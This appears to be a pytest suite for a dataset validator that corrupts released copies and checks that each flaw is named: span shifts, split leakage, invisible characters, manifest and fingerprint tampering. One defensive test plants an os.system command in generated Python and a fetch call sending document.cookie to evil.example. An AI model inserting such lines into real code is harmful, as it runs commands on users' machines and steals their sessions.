"""validate: passes on a finalized dataset, fails naming the row on corrupted copies."""
import collections
import shutil
import subprocess
import sys

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from beam_pipelines import validate
from tests.finalize.test_finalize import fixture_rows, run_finalize, write_filtered
from transforms.core.schema import DATASET_SCHEMA
from transforms.finalize.publish import invariants
from transforms.finalize.splits.rules import SplitConfig

ROW = {"id": "q1", "passage_id": "p1", "article_id": "a1", "source": "cnn", "origin": "public",
       "url": "http://x/1", "passage": "Ann met Bob in Rome.", "split": "train",
       "entities": [{"start": 0, "end": 3, "text": "Ann", "label": "PERSON"},
                    {"start": 8, "end": 11, "text": "Bob", "label": "PERSON"},
                    {"start": 15, "end": 19, "text": "Rome", "label": "GPE"}],
       "query": "@placeholder later left.", "answers": [{"start": 0, "end": 3, "text": "Ann"}]}


@pytest.mark.fast
def test_check_row_accepts_a_good_row_and_names_each_broken_invariant():
    assert list(invariants.check_row(ROW)) == []
    shifted = dict(ROW, answers=[{"start": 1, "end": 4, "text": "Ann"}])
    assert any("answer span [1, 4) reads 'nn '" in v and "'q1'" in v for v in invariants.check_row(shifted))
    two = dict(ROW, query="@placeholder met @placeholder.")
    assert list(invariants.check_row(two)) == ["train row 'q1': query has 2 @placeholder markers, expected exactly 1"]
    assert "no answers" in list(invariants.check_row(dict(ROW, answers=[])))[0]
    not_entity = dict(ROW, answers=[{"start": 4, "end": 7, "text": "met"}])
    assert "is not one of the entities" in list(invariants.check_row(not_entity))[0]



@pytest.mark.fast
def test_check_row_names_a_character_a_worker_cannot_type():
    """Issue 22: an entity holding a bidi override was released and its HIT unanswerable."""
    passage = "Ann met B\u202eob in Rome."
    bidi = dict(ROW, passage=passage, entities=[dict(ROW["entities"][1], end=12, text="B\u202eob")],
                answers=[{"start": 8, "end": 12, "text": "B\u202eob"}])
    assert list(invariants.check_row(bidi)) == [
        "train row 'q1': passage holds a format_character (U+202E at 9)"]
    assert list(invariants.check_row(dict(ROW, query="@placeholder\u200b left."))) == [
        "train row 'q1': query holds a format_character (U+200B at 12)"]


@pytest.mark.fast
def test_leakage_checker_finds_shared_ids_passages_articles_and_urls():
    checker = invariants.LeakageChecker(SplitConfig.paper())
    assert list(checker.add(ROW)) == []
    other = dict(ROW, id="q2", split="dev", passage_id="p2", article_id="a2", passage="Other text.",
                 url="http://x/1")
    assert [v.split(": ", 1)[1] for v in checker.add(other)] == \
        ["url 'http://x/1' appears in both train and dev (leakage)"]
    same_text = dict(ROW, id="q1", split="test", passage_id="p3", article_id="a3", url=None, origin="crawled")
    problems = list(checker.add(same_text))
    assert problems[0] == "test row 'q1': id is not unique"
    assert any("passage text 'Ann met Bob in Rome....' appears in both train and test" in p for p in problems)
    assert list(checker.add(dict(ROW, id="q9", origin="crawled")))[-1].endswith(
        "origin 'crawled' is not allowed in train by the split policy")


@pytest.fixture(scope="module")
def dataset(record_format_dir, tmp_path_factory):
    root = tmp_path_factory.mktemp("validate")
    return run_finalize(write_filtered(root, fixture_rows(record_format_dir)), root / "dataset")


def _copy(dataset, tmp_path):
    shutil.copytree(dataset, tmp_path / "copy")
    return tmp_path / "copy"


def _rewrite(path, rows):
    pq.write_table(pa.Table.from_pylist(rows, schema=DATASET_SCHEMA), path)


def _shard(root, split):
    (path,) = root.glob(f"{split}-*.parquet")
    return path, pq.read_table(path).to_pylist()


def test_clean_dataset_passes(dataset):
    assert validate.run([str(dataset)]) == []
    out = subprocess.run([sys.executable, "-m", "beam_pipelines.validate", str(dataset)],
                         capture_output=True, text=True)
    assert out.returncode == 0 and out.stdout.startswith("OK")


def test_shifted_span_is_named(dataset, tmp_path):
    root = _copy(dataset, tmp_path)
    path, rows = _shard(root, "dev")
    a = rows[0]["answers"][0]
    rows[0]["answers"][0] = dict(a, start=a["start"] + 1, end=a["end"] + 1)
    _rewrite(path, rows)
    violations = validate.run([str(root)])
    assert violations[0].startswith(f"dev row {rows[0]['id']!r}: answer span [{a['start'] + 1}, {a['end'] + 1})")
    out = subprocess.run([sys.executable, "-m", "beam_pipelines.validate", str(root)],
                         capture_output=True, text=True)
    assert out.returncode == 1 and rows[0]["id"] in out.stderr


def test_two_placeholders_are_named(dataset, tmp_path):
    root = _copy(dataset, tmp_path)
    path, rows = _shard(root, "train")
    rows[3]["query"] = rows[3]["query"] + " And @placeholder too."
    _rewrite(path, rows)
    assert validate.run([str(root)])[0] == \
        f"train row {rows[3]['id']!r}: query has 2 @placeholder markers, expected exactly 1"


def test_passage_in_two_splits_is_named(dataset, tmp_path):
    root = _copy(dataset, tmp_path)
    train_path, train = _shard(root, "train")
    test_path, test = _shard(root, "test")
    per_passage = collections.Counter(r["passage_id"] for r in train)
    moved = next(r for r in train if per_passage[r["passage_id"]] > 1)
    _rewrite(train_path, [r for r in train if r is not moved])
    _rewrite(test_path, test + [dict(moved, split="test")])
    violations = validate.run([str(root)])
    assert violations[0] == (f"test row {moved['id']!r}: passage_id {moved['passage_id']!r} "
                             "appears in both train and test (leakage)")
    assert any(f"article {moved['article_id']!r} appears in both train and test" in v for v in violations)


def test_exports_out_of_step_with_the_shards_are_caught(dataset, tmp_path):
    root = _copy(dataset, tmp_path)
    record = root / "record" / "train.json"
    record.write_text(record.read_text().replace('"end": ', '"end": 9999', 1))
    (root / "superglue" / "test.jsonl").write_text("")
    violations = validate.run([str(root), "--max_violations", "50"])
    assert any(v.startswith("record/train.json passage") and "outside the passage" in v for v in violations)
    assert any(v.startswith("superglue/test.jsonl: 0 queries") for v in violations)


def test_missing_files_are_reported(dataset, tmp_path):
    root = _copy(dataset, tmp_path)
    (root / "stats.json").unlink()
    next(root.glob("dev-*.parquet")).unlink()
    violations = validate.run([str(root)])
    assert "stats.json is missing" in violations and "no dev-*.parquet shards" in violations


def test_a_gap_in_the_funnel_fails_validation(dataset, tmp_path):
    import json
    root = _copy(dataset, tmp_path)
    stats = json.loads((root / "stats.json").read_text())
    steps = list(stats["funnel"]["stages"])
    middle = steps[len(steps) // 2]
    stats["funnel"]["stages"][middle]["out"] -= 1     # a record lost without a reason
    (root / "stats.json").write_text(json.dumps(stats))
    violations = validate.run([str(root)])
    assert any(f"funnel gap: {middle}: in" in v for v in violations), violations
    del stats["funnel"]
    (root / "stats.json").write_text(json.dumps(stats))
    assert any("has no funnel" in v for v in validate.run([str(root)]))


# --- issue 28: verification with an anchor --------------------------------------------------

def _validate_cli(root, *args):
    return subprocess.run([sys.executable, "-m", "beam_pipelines.validate", str(root), *args],
                          capture_output=True, text=True)


def _restamp_manifest_entry(root, name):
    """What an attacker does after editing a file: its manifest entry rewritten to match."""
    import json

    from transforms.core import manifest
    stored = json.loads((root / "_MANIFEST.json").read_text())
    stored["files"][name] = manifest.describe(str(root))["files"][name]
    (root / "_MANIFEST.json").write_text(json.dumps(stored))


def test_every_unreadable_file_is_a_violation_never_a_traceback(dataset, tmp_path):
    root = _copy(dataset, tmp_path)
    for name in ("record/train.json", "superglue/val.jsonl"):
        data = (root / name).read_bytes()
        (root / name).write_bytes(data[:len(data) // 2])          # truncated
    (root / "stats.json").write_text("{")
    path, _ = _shard(root, "test")
    path.write_bytes(b"not a Parquet file at all")
    out = _validate_cli(root, "--max_violations", "100")
    assert out.returncode == 1 and "Traceback" not in out.stderr, out.stderr[-2000:]
    for name in ("stats.json", "record/train.json", path.name):
        assert f"  {name}: unreadable or not in the expected layout" in out.stderr, name
    import re
    assert re.search(r"  superglue/val\.jsonl line \d+: not JSON", out.stderr)


def test_an_empty_folder_or_no_folder_is_never_ok(tmp_path):
    (tmp_path / "empty").mkdir()
    out = _validate_cli(tmp_path / "empty", "--max_violations", "0")
    assert out.returncode == 1 and out.stderr.strip().splitlines() == [
        "error: --max_violations must be at least 1, got 0 (see --help)"]
    out = _validate_cli(tmp_path / "empty")
    assert out.returncode == 1 and "_MANIFEST.json is missing" in out.stderr
    assert validate.run([str(tmp_path / "nowhere")]) == [
        f"{tmp_path / 'nowhere'}: no such folder (pass the released DIR/dataset)"]


def test_the_release_fingerprint_is_on_the_card_and_checked(dataset, tmp_path):
    from transforms.finalize.exports import fingerprint
    (stated,) = fingerprint.stated((dataset / "README.md").read_text())
    out = _validate_cli(dataset, "--expect", f"sha256:{stated}")
    assert out.returncode == 0 and out.stdout.strip() == (
        f"OK: every contract invariant holds; release fingerprint sha256:{stated}")
    assert validate.release_fingerprint(str(dataset)) == stated
    # recomputed as documented: the manifest's files map, the card's value as zeros
    import hashlib
    import json
    files = json.loads((dataset / "_MANIFEST.json").read_text())["files"]
    card = (dataset / "README.md").read_text().replace(stated, "0" * 64).encode()
    files["README.md"] = {"size": len(card), "sha256": hashlib.sha256(card).hexdigest()}
    blob = json.dumps(files, sort_keys=True, separators=(",", ":"), ensure_ascii=True)
    assert hashlib.sha256(blob.encode()).hexdigest() == stated
    other = "0" * 63 + "1"
    assert validate.run([str(dataset), "--expect", other]) == [
        f"release fingerprint is sha256:{stated}, expected sha256:{other} (not the release "
        "you expect)"]


def test_an_entry_without_sha256_lets_no_change_past(dataset, tmp_path):
    """Before: deleting an entry's sha256 key got a same-size change of the card's licence
    past validate and publish --dry_run."""
    import json
    root = _copy(dataset, tmp_path)
    card = (root / "README.md").read_text()
    assert "license: unknown" in card
    (root / "README.md").write_text(card.replace("license: unknown", "license: mit-xyz", 1))
    stored = json.loads((root / "_MANIFEST.json").read_text())
    del stored["files"]["README.md"]["sha256"]
    (root / "_MANIFEST.json").write_text(json.dumps(stored))
    violations = validate.run([str(root)])
    assert violations[0] == "README.md: its _MANIFEST.json entry carries no sha256 (it could " \
                            "change unseen)"
    assert violations[1].startswith("README.md states release fingerprint sha256:")
    out = subprocess.run([sys.executable, "-m", "beam_pipelines.publish", str(root), "me/x",
                          "--dry_run"], capture_output=True, text=True)
    assert out.returncode == 1 and "carries no sha256" in out.stderr.strip().splitlines()[-1]


def test_an_edited_shard_with_its_manifest_entry_rewritten_is_caught(dataset, tmp_path):
    """Before: validate said OK (query text was not cross-checked, nothing anchored the
    manifest)."""
    from tests.finalize.test_release import tamper_one_query
    from transforms.core import manifest
    from transforms.finalize.exports import fingerprint
    root = _copy(dataset, tmp_path)
    (original,) = fingerprint.stated((root / "README.md").read_text())
    path, _ = _shard(root, "train")
    qid, old, new = tamper_one_query(path)
    _restamp_manifest_entry(root, path.name)
    violations = validate.run([str(root), "--max_violations", "50"])
    assert violations[0] == f"record/train.json query {qid!r}: query text differs from the shard's"
    assert any(v.startswith("superglue/train.jsonl line") and qid in v for v in violations)
    assert any(v.startswith("README.md states release fingerprint") for v in violations)
    # the card re-stamped and the manifest rewritten whole: the exports still disagree, and
    # the fingerprint a user expects is not this one
    stamped, described = fingerprint.stamp(str(root))
    manifest.write(str(root), described)
    assert stamped != original
    violations = validate.run([str(root), "--expect", original, "--max_violations", "50"])
    assert violations[0].startswith(f"record/train.json query {qid!r}")
    assert f"release fingerprint is sha256:{stamped}, expected sha256:{original} (not the " \
           "release you expect)" in violations


@pytest.mark.parametrize("field", ["passage", "answers", "entities", "passage_id"])
def test_each_field_of_a_shard_is_cross_checked_with_the_exports(dataset, tmp_path, field):
    root = _copy(dataset, tmp_path)
    path, rows = _shard(root, "dev")
    pid = rows[0]["passage_id"]
    for r in rows:
        if r["passage_id"] != pid:
            continue
        if field == "passage":                          # same length: spans stay valid
            r["passage"] = r["passage"][:-1] + ("X" if r["passage"][-1] != "X" else "Y")
        elif field == "answers":
            r["answers"] = r["answers"][:1] + [e for e in r["entities"]
                                               if e["text"] != r["answers"][0]["text"]][:1]
            r["answers"] = [{k: a[k] for k in ("start", "end", "text")} for a in r["answers"]]
        elif field == "entities":
            r["entities"] = r["entities"] + [dict(r["entities"][0], start=0, end=1,
                                                  text=r["passage"][0])]
        else:
            r["passage_id"] = pid + "-moved"
    _rewrite(path, rows)
    _restamp_manifest_entry(root, path.name)
    violations = " | ".join(validate.run([str(root), "--max_violations", "100"]))
    expected = {"passage": "passage text differs from the shards'",
                "answers": "differ from the shard's",
                "entities": "entity spans differ from the shards'",
                "passage_id": "not a passage of the dev shards"}[field]
    assert "record/dev.json" in violations and expected in violations, violations


def test_lm_eval_code_and_explorer_script_are_regenerated_and_compared(dataset, tmp_path):
    """Before: an lm_eval/utils.py given an os.system(...) line passed validate."""
    root = _copy(dataset, tmp_path)
    utils = root / "lm_eval" / "utils.py"
    utils.write_text(utils.read_text() + "\nimport os\nos.system('touch /tmp/owned')\n")
    _restamp_manifest_entry(root, "lm_eval/utils.py")
    (root / "lm_eval" / "extra.py").write_text("print('hi')\n")
    data = root / "explorer" / "data.js"
    data.write_text(data.read_text() + "fetch('https://evil.example/?' + document.cookie);\n")
    violations = validate.run([str(root), "--max_violations", "100"])
    assert "lm_eval/utils.py: differs from the file finalize writes for this release" in violations
    assert any(v.startswith("lm_eval/extra.py: not a file finalize writes") for v in violations)
    assert "explorer/data.js: not `window.EXPLORER_DATA = <JSON>;` (the page runs it)" in violations
